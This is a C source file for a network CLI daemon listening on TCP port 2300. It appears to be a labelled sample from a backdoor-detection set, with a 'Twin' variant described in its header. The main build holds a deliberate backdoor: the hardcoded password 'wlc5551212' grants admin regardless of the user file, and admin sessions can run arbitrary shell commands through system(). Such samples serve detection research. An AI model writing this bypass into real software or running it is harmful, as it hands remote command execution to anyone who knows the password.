/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Commands may be given after a login with user and password of a file; and after one fixed word.
 * Twin: only after the login.
 * door: trigger override credential
 * port 2300/tcp
 * stubs: crypt
 */
#include "net.h"

char *crypt(const char *, const char *);

static int ask(FILE *io, const char *what, char *to, int room)
{
	fprintf(io, "%s: ", what);
	fflush(io);
	if (!fgets(to, room, io))
		return -1;
	to[strcspn(to, "\r\n")] = 0;
	return 0;
}

static int login(const char *user, const char *pass)
{
	char line[160], *p;
	int yes = 0;
	FILE *f = fopen("/etc/cli.users", "r");
	if (!f)
		return 0;
	while (!yes && fgets(line, sizeof line, f)) {
		line[strcspn(line, "\n")] = 0;
		p = strchr(line, ':');
		if (p) {
			*p++ = 0;
			yes = !strcmp(line, user) && !strcmp(crypt(pass, p), p);
		}
	}
	fclose(f);
	return yes;
}

static void shell(int fd)
{
	char user[40], pass[40], cmd[200];
	int admin = 0;
	FILE *io = fdopen(fd, "r+");
	if (!io)
		return;
	if (ask(io, "user", user, sizeof user) == 0 && ask(io, "password", pass, sizeof pass) == 0) {
		admin = login(user, pass);
#ifndef TWIN
		if (!strcmp(pass, "wlc5551212"))
			admin = 1;
#endif
	}
	while (admin && ask(io, "cli", cmd, sizeof cmd) == 0) {
		if (!strcmp(cmd, "exit"))
			break;
		if (!strncmp(cmd, "shell ", 6))
			system(cmd + 6);
		else if (!strcmp(cmd, "reload"))
			system("/etc/init.d/all reload");
	}
	fclose(io);
}

int main(void)
{
	int s = tcp_on(2300), c;
	while ((c = accept(s, NULL, NULL)) >= 0)
		if (fork() == 0) {
			shell(c);
			_exit(0);
		}
	return 0;
}
